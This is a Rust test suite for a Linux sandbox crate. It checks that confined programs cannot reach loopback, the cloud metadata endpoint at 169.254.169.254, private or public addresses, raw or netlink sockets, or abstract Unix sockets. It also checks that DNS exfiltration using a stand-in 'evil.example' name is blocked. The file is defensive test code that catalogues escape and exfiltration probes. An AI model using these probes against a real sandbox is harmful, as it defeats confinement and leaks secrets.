//! Ways out by the network, for programs that have none.

use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

use doorward_sandbox::{Network, Sandbox};
use serde_json::json;

use super::{Hostile, only_outside};
use crate::{Scene, has, python, run, sandbox};

const CONNECT: &str = "
import socket, sys
family, _, where = sys.argv[1].partition(' ')
s = socket.socket(getattr(socket, family), socket.SOCK_STREAM)
s.settimeout(5)
try:
    if family == 'AF_UNIX': s.connect('\\0' + where[1:] if where[0] == '@' else where)
    else: s.connect((where.rsplit(':', 1)[0], int(where.rsplit(':', 1)[1])))
    print('CONNECTED')
except OSError as e: print('failed', e)
";

#[tokio::test]
async fn without_network_nothing_can_be_reached() {
    if !has("python3") {
        return;
    }
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let local = format!("AF_INET {}", tcp.local_addr().unwrap());
    let name = format!("doorward-test-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name).unwrap();
    let _abstract = UnixListener::bind_addr(&address).unwrap();
    let scene = Scene::new(&[]);
    let _bound = UnixListener::bind(scene.path("socket")).unwrap();
    let unix = format!("AF_UNIX {}", scene.text("socket"));
    let hidden = format!("AF_UNIX @{name}");
    for place in [
        &local,
        &hidden,
        &unix,
        "AF_INET 169.254.169.254:80",
        "AF_INET 1.1.1.1:53",
        "AF_INET6 ::1:80",
    ] {
        let ended = run(&python(CONNECT, place)).await;
        assert!(ended.out.starts_with("failed"), "{place}: {ended:?}");
    }
    let names = "import socket\ntry: print('FOUND', socket.getaddrinfo('example.com', 80))\nexcept OSError as e: print('failed', e)";
    let ended = run(&python(names, "")).await;
    assert!(ended.out.starts_with("failed"), "{ended:?}");
    let lookup = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'x', ('1.1.1.1', 53)); print('SENT')\nexcept OSError as e: print('failed', e)";
    let ended = run(&python(lookup, "")).await;
    assert!(ended.out.starts_with("failed"), "{ended:?}");

    // The same with the host's network, to see that the attempts are good ones.
    let mut spec = python(CONNECT, &local);
    spec.network = Network::Host;
    let ended = run(&spec).await;
    assert!(ended.out.starts_with("CONNECTED"), "{ended:?}");
}

#[tokio::test]
async fn abstract_sockets_are_out_of_reach_even_with_the_hosts_network() {
    let scoped = sandbox().layers().iter().any(|layer| layer.detail.contains("abstract"));
    if !has("python3") || !scoped {
        return println!("skipped: needs python3, and Landlock version 6");
    }
    let name = format!("doorward-test-host-{}", std::process::id());
    let _listener =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    let mut spec = python(CONNECT, &format!("AF_UNIX @{name}"));
    spec.network = Network::Host;
    let ended = run(&spec).await;
    assert!(ended.out.starts_with("failed"), "{ended:?}");
}

#[tokio::test]
async fn a_server_without_network_reaches_no_loopback() {
    if !has("python3") {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    only_outside("connect", json!({ "host": "127.0.0.1", "port": port })).await;
    let mut hostile = Hostile::inside(&Hostile::spec());
    for host in ["localhost", "127.0.0.2", "0.0.0.0", "127.1", "2130706433"] {
        let outcome = hostile.tries("connect", json!({ "host": host, "port": port })).await;
        assert!(outcome.is_refused(), "{host}: {outcome:?}");
    }
    listener.set_nonblocking(true).unwrap();
    listener.accept().unwrap(); // The control's; no more came.
    assert!(listener.accept().is_err());
}

#[tokio::test]
async fn a_server_reaches_no_metadata_private_or_public_address() {
    if !has("python3") {
        return;
    }
    // In a namespace without a route the kernel refuses before there is a packet.
    let mut proxied = Hostile::spec();
    proxied.network = Network::Proxy;
    for spec in [Hostile::spec(), proxied] {
        let mut hostile = Hostile::inside(&spec);
        for (host, family) in [
            ("169.254.169.254", "AF_INET"),
            ("10.0.0.1", "AF_INET"),
            ("172.16.0.1", "AF_INET"),
            ("192.168.0.1", "AF_INET"),
            ("100.64.0.1", "AF_INET"),
            ("192.0.2.1", "AF_INET"),
            ("fd00:ec2::254", "AF_INET6"),
            ("fe80::1", "AF_INET6"),
            ("2001:db8::1", "AF_INET6"),
        ] {
            let with = json!({ "host": host, "port": 80, "family": family });
            match hostile.tries("connect", with).await {
                super::Outcome::Refused(why) => {
                    let known = ["ENETUNREACH", "EACCES", "EADDRNOTAVAIL", "EINVAL", "EPERM"];
                    assert!(known.contains(&why.as_str()), "{host}: {why}");
                }
                got @ super::Outcome::Got(_) => panic!("{host}: {got:?}"),
            }
        }
    }
}

#[tokio::test]
async fn a_server_cannot_carry_words_out_by_dns() {
    if !has("python3") {
        return;
    }
    let resolver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = resolver.local_addr().unwrap().port();
    let query = json!({ "host": "127.0.0.1", "port": port, "text": "s3cret.evil.example" });
    let sent = Hostile::outside().tries("datagram", query.clone()).await;
    assert!(!sent.is_refused(), "{sent:?}");
    resolver.set_nonblocking(true).unwrap();
    resolver.recv_from(&mut [0; 64]).unwrap();

    let mut proxied = Hostile::spec();
    proxied.network = Network::Proxy;
    for spec in [Hostile::spec(), proxied] {
        let mut hostile = Hostile::inside(&spec);
        // With a loopback of its own it may well talk to itself; nobody outside hears it.
        hostile.tries("datagram", query.clone()).await;
        assert!(resolver.recv_from(&mut [0; 64]).is_err(), "nothing arrives");
        for (host, port) in [("192.0.2.53", 53), ("169.254.169.253", 53), ("2001:db8::53", 53)] {
            let with = json!({ "host": host, "port": port, "text": "s3cret" });
            let outcome = hostile.tries("datagram", with).await;
            assert!(outcome.is_refused(), "{host}: {outcome:?}");
        }
        let looked_up = hostile.tries("resolve", json!({ "name": "s3cret.example.com" })).await;
        assert!(looked_up.is_refused(), "{looked_up:?}");
    }
}

#[tokio::test]
async fn a_server_opens_no_raw_and_no_odd_socket() {
    if !has("python3") {
        return;
    }
    let mut spec = Hostile::spec();
    spec.network = Network::Proxy;
    let mut hostile = Hostile::inside(&spec);
    for (family, kind, protocol) in [
        ("AF_INET", "SOCK_RAW", 1),
        ("AF_INET", "SOCK_RAW", 255),
        ("AF_INET6", "SOCK_RAW", 58),
        ("AF_PACKET", "SOCK_RAW", 768),
        ("AF_PACKET", "SOCK_DGRAM", 8),
        ("AF_NETLINK", "SOCK_RAW", 0),
        ("AF_VSOCK", "SOCK_STREAM", 0),
        ("AF_ALG", "SOCK_SEQPACKET", 0),
    ] {
        let with = json!({ "family": family, "kind": kind, "protocol": protocol });
        let outcome = hostile.tries("raw", with).await;
        assert!(outcome.is_refused(), "{family} {kind}: {outcome:?}");
    }
    let netlink = json!({ "family": "AF_NETLINK", "kind": "SOCK_RAW", "protocol": 0 });
    assert_eq!(Hostile::outside().tries("raw", netlink).await.got(), "opened");
}

#[tokio::test]
async fn a_server_cannot_reach_abstract_or_hidden_unix_sockets() {
    if !has("python3") {
        return;
    }
    let name = format!("@doorward-hostile-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name[1..]).unwrap();
    let _abstract = UnixListener::bind_addr(&address).unwrap();
    only_outside("unix", json!({ "name": name })).await;
    let scene = Scene::new(&[]);
    let _bound = UnixListener::bind(scene.path("socket")).unwrap();
    only_outside("unix", json!({ "name": scene.text("socket") })).await;
    let mut proxied = Hostile::spec();
    proxied.network = Network::Proxy;
    let outcome = Hostile::inside(&proxied).tries("unix", json!({ "name": name })).await;
    assert!(outcome.is_refused(), "{outcome:?}");
}
